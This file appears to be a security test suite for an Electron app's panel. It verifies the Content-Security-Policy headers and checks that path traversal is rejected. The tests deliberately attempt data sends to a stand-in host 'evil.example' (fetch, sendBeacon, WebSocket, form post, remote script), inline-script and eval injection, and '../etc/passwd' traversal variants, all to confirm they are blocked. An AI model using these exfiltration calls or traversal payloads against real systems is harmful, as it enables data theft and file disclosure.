/** The panel's Content-Security-Policy and the files that its scheme serves (Electron's security guide, items 7 and 18). */
import { expect, test } from '../../hosts/fixture.ts';

test('the Content-Security-Policy of every answer refuses what is not of the app itself', async ({ launch }) => {
  const app = await launch();
  const page = await app.panel();
  const answers = new Map<string, string>();
  page.on('response', (response) => {
    const { pathname } = new URL(response.url());
    answers.set(pathname, response.headers()['content-security-policy'] ?? 'none');
  });
  await page.reload();
  await page.evaluate(async () => {
    const image = document.body.appendChild(document.createElement('img'));
    await new Promise((resolve) => {
      image.onerror = resolve;
      image.src = '/nothing.png';
    });
  });
  expect([...answers.keys()]).toEqual(expect.arrayContaining(['/index.html', '/nothing.png']));
  expect(answers.size).toBeGreaterThan(3);
  const [policy = '', ...others] = new Set(answers.values());
  expect(others).toEqual([]);
  expect(policy.split('; ').toSorted()).toEqual([
    "base-uri 'none'",
    "connect-src 'none'",
    "default-src 'none'",
    "font-src 'self'",
    "form-action 'none'",
    "frame-ancestors 'none'",
    "img-src 'self'",
    "script-src 'self'",
    "style-src 'self'",
  ]);
});

test('the policy is in force: no inline code, no eval, no connection, nothing from elsewhere', async ({ launch }) => {
  const app = await launch();
  const page = await app.panel();
  const refused = [
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-attr',
    'style-src-elem',
    'worker-src',
  ];
  const violated = await page.evaluate(async (all) => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    /** Until all of these have been refused, or half a minute has shown that they are not. */
    const refusedAre = async (directives: readonly string[]) => {
      const end = performance.now() + 30_000;
      while (performance.now() < end && !directives.every((one) => seen.includes(one)))
        await new Promise((resolve) => void setTimeout(resolve, 10));
    };
    const add = (name: string, values: object) =>
      document.body.appendChild(Object.assign(document.createElement(name), values));
    const outcome = { ran: false, evaluated: false, styled: '' };
    Object.assign(window, { run: () => (outcome.ran = true) });
    add('script', { textContent: 'window.run()' });
    add('img', { alt: '' }).setAttribute('onerror', 'window.run()');
    add('style', { textContent: 'body { outline: 3px solid red }' });
    document.body.setAttribute('style', 'outline: 3px solid red');
    await fetch('https://evil.example/').catch(() => {});
    await fetch('/index.html').catch(() => {});
    navigator.sendBeacon('https://evil.example/beacon', 'state');
    try {
      new WebSocket('wss://evil.example/');
    } catch {
      // Some versions throw, others only report.
    }
    add('script', { src: 'https://evil.example/x.js' });
    add('img', { src: 'https://evil.example/x.png' });
    add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
    add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
    add('iframe', { src: '/index.html' });
    add('object', { data: '/index.html' });
    add('base', { href: 'https://evil.example/' });
    try {
      new Worker(URL.createObjectURL(new Blob(['close()'])));
    } catch {
      // As above.
    }
    // Until here the test's own call may evaluate text, whatever the policy says.
    const later = ['form-action', 'script-src'];
    await refusedAre(all.filter((one) => !later.includes(one)));
    const make = [Reflect.get(window, 'eval'), Reflect.get(window, 'Function')] as ((code: string) => unknown)[];
    for (const evaluate of make) {
      try {
        evaluate('window.run()');
        outcome.evaluated = true;
      } catch {
        // As it should be.
      }
    }
    const form = add('form', { action: 'https://evil.example/form', method: 'post' }) as HTMLFormElement;
    form.submit();
    await refusedAre(all);
    outcome.styled = getComputedStyle(document.body).outlineStyle;
    return { ...outcome, base: document.baseURI === location.href, seen: [...new Set(seen)].toSorted() };
  }, refused);
  expect(violated).toEqual({
    ran: false,
    evaluated: false,
    styled: 'none',
    base: true,
    seen: refused,
  });
});

test('the app serves the files of its page and no others', async ({ launch }) => {
  const app = await launch();
  const page = await app.panel();
  const status = async (address: string) => {
    const answer = page.waitForResponse((response) => response.request().resourceType() === 'image');
    await page.evaluate((src) => void Object.assign(document.createElement('img'), { src }), address);
    return (await answer).status();
  };
  const outside = ['preload/preload.cjs', 'main/main.js', '../package.json', '../../../../../../../../etc/passwd'];
  for (const file of outside) {
    const up = `../${file}`;
    for (const way of [
      `/${file}`,
      `/${up}`,
      `/${encodeURIComponent(up)}`,
      `/${up.replaceAll('/', '%5c')}`,
      `/assets/${up}`,
    ])
      expect(await status(way), way).toBe(404);
  }
  expect(await status('/index.html')).toBe(200);
});
